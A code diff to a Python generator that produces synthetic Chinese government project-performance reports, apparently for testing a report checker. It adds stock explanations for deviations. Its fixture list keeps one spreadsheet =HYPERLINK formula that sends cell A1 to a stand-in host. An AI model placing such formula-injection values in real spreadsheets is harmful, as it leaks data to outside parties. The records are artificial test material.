@@ -44,6 +44,8 @@ PROJECTS = ["电子政务专项经费", "政务网站安全运维", "信息系�
 FORMULA_LIKE = ['=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")', "+86 0564-1234567 联系人", "-（见附件）",
                 "@各单位 按时报送", "=1+1"]
 BAD_VALUES = ["约九成", "基本上都完成了吧", "见附件", "1,0.5"]
+DEVIATIONS = ["无偏差。", "受疫情影响部分工作延后，已在次年一季度完成。", "个别指标设置偏保守，下年度将据实调整。",
+              "资金拨付滞后导致进度偏慢，今后将加强预算执行监控。"]
 GRADE_WORDS = [("达成预期指标", 85), ("部分达成预期指标并具有一定效果", 12), ("未达成预期指标且效果较差", 3)]
 
 
@@ -117,6 +119,10 @@ def vary_project(base, i: int, rng: random.Random, small: bool):
                 indicators.extend([ind, twin])
             else:
                 indicators.append(ind)
+    for ind in indicators:
+        # Most clerks explain a shortfall; a few forget (a realistic share of E-DEVIATION findings).
+        if rng.random() < 0.95:
+            ind.deviation = rng.choice(DEVIATIONS)
     p.indicators = indicators
     if rng.random() < 0.03:
         rng.choice(indicators).actual = rng.choice(BAD_VALUES)
@@ -229,7 +235,7 @@ def make_broken(folder: Path) -> dict[str, str]:
 def generate(n: int, out: Path, small: bool = False, seed: int = 1, broken: bool = True,
              jobs: int | None = None, quiet: bool = False) -> Path:
     out = Path(out)
-    params = {"n": n, "small": small, "seed": seed, "broken": broken, "version": 2}
+    params = {"n": n, "small": small, "seed": seed, "broken": broken, "version": 3}
     stamp = out / STAMP
     if stamp.exists() and json.loads(stamp.read_text("utf-8")) == params:
         if not quiet:
